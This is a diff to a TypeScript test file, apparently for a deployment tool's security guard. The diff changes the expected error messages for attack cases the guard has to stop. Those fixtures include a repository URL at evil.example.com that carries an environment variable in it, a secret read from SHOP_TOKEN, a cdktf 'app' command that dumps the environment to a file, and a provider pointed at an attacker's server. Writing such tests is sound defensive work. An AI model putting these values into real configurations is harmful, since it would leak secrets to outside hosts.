@@ -56,7 +56,7 @@ const attacks: Readonly<Record<string, Attack>> = {
   },
   "a value behind a harmless name": {
     files: { "rnv.yaml": repository("https://evil.example.com/${env.DEPLOY_TARGET:-x}") },
-    stopped: "error[guard.untrusted]: DEPLOY_TARGET is not read",
+    stopped: "error[guard.untrusted]: service.shop.api: DEPLOY_TARGET is not read",
   },
   "a secret as the value of a variable": {
     files: { "rnv.yaml": variable("{ fromEnv: SHOP_TOKEN }") },
@@ -129,7 +129,7 @@ const attacks: Readonly<Record<string, Attack>> = {
         '      web:\n        kind: web\n        configuration: { repository: "https://evil.example.com/${variable.shop.api.A.value}" }\n',
       ),
     },
-    stopped: "error[manifest.unsupported]: a secret can be referred to from a secret only",
+    stopped: "error[manifest.unsupported]: service.shop.web: a secret can be referred to from a secret only",
   },
   "a program of constructs": {
     files: { "cdktf.json": JSON.stringify({ app: "env > stolen", language: "typescript" }) },
@@ -173,7 +173,7 @@ const attacks: Readonly<Record<string, Attack>> = {
       }),
     },
     flags: ["-f", "cdktf.out"],
-    stopped: "lies outside of its folder",
+    stopped: "is outside its folder",
   },
   "a stack whose provider is at the attacker's server": {
     files: stack({
